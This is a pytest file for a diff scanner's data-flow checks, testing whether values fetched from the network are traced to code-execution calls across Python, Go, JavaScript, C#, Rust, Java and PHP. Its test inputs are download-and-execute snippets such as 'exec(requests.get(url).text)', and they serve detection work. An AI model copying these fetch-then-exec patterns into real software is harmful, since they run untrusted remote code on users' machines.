"""Values that are followed from line to line by their names."""

import pytest

from reviewqueue.scan.matcher import Matcher
from reviewqueue.scan.parser import parse
from reviewqueue.scan.rule import Subject
from reviewqueue.scan.rule import expression as compiled
from reviewqueue.scan.structure.flow import FETCHES, REACHES, RUNS, SENDS, abroad, uses
from reviewqueue.scan.view import ChangeView


def found(lines: list[str], source: str = FETCHES, sink: str = RUNS) -> list[tuple[int, int]]:
    head = "diff --git a/a.py b/a.py\nnew file mode 100644\nindex 0000000..1111111\n"
    head += f"--- /dev/null\n+++ b/a.py\n@@ -0,0 +1,{len(lines)} @@\n"
    patch = head + "".join(f"+{line}\n" for line in lines)
    view = ChangeView(parse(patch.encode()), Subject(), Matcher([[]], [[]]))
    return [(use.source, use.number) for file in view.files for use in uses(file, source, sink)]


@pytest.mark.parametrize(
    "lines",
    [
        ["answer = requests.get(url)", "exec(answer.text)"],
        ["with urlopen(url) as stream:", "    text = stream.read()", "    os.system(text)"],
        ["resp, err := http.Get(url)", "b, _ := io.ReadAll(resp.Body)", "exec.Command(string(b))"],
        ["https.get(url, (res) => {", "  res.on('end', () => exec(res))"],
        ["wc.DownloadFile(url, 'tool.exe');", "Process.Start('tool.exe');"],
        ["let cmd = ureq::get(url).call()?;", 'Command::new("x").arg(&cmd)'],
        ["exec(requests.get(url).text)"],
        ["for (Part p : http.Get(url)) {", "all.append(p.text());", "exec(all.toString())"],
        ["foreach (Part p in http.Get(url)) {", "all += p;", "exec(all)"],
        ["foreach (file_get_contents('http://a') as $k => $v) {", "$all .= $v;", "exec($all)"],
        ["for _, part in urlopen(url):", "  string += part", "exec(string)"],
        ["const { order } = await fetch('https://a.example')", "execSync(order)"],
    ],
)
def test_a_value_is_followed_to_what_runs_it(lines: list[str]) -> None:
    assert found(lines)[-1] == (1, len(lines))


@pytest.mark.parametrize(
    "lines",
    [
        ["answer = requests.get(url)", "os.system('make')"],
        ["# answer = requests.get(url)", "exec(answer)"],
        ["answer = requests.get(url)", *["x"] * 20, "exec(answer)"],
        ["exec(answer)", "answer = requests.get(url)"],
        ["answer = requests.get(url)" + " " * 1_000, "exec(answer)"],
        ["answer = 1", "exec(answer)"],
        ["function f(a: string) { return urlopen(a) }", "(b: string) => exec(b as string)"],
    ],
)
def test_what_merely_stands_near_is_not_told(lines: list[str]) -> None:
    assert found(lines) == []


def test_the_calls_are_expressions_that_find_what_they_name() -> None:
    for regex, text in (
        (FETCHES, b"urlopen("),
        (RUNS, b"execSync("),
        (SENDS, b"sendBeacon("),
        (REACHES, b"setRequestHeader("),
    ):
        assert compiled(regex).search(text)


def test_many_lines_are_followed_up_to_a_limit_only() -> None:
    lines = ["answer = requests.get(url)"] * 6_000 + ["exec(answer)"]
    assert found(lines) == []


def test_the_lines_that_name_a_machine_elsewhere() -> None:
    lines = ["https://a.b.net/c", "http://localhost:1/c", "https://a.example.com", "('8.8.4.4', 1)"]
    head = "diff --git a/a.py b/a.py\nnew file mode 100644\nindex 0000000..1111111\n"
    head += f"--- /dev/null\n+++ b/a.py\n@@ -0,0 +1,{len(lines)} @@\n"
    patch = head + "".join(f"+{line}\n" for line in lines)
    view = ChangeView(parse(patch.encode()), Subject(), Matcher([[]], [[]]))
    assert [abroad(file) for file in view.files] == [[1, 4]]
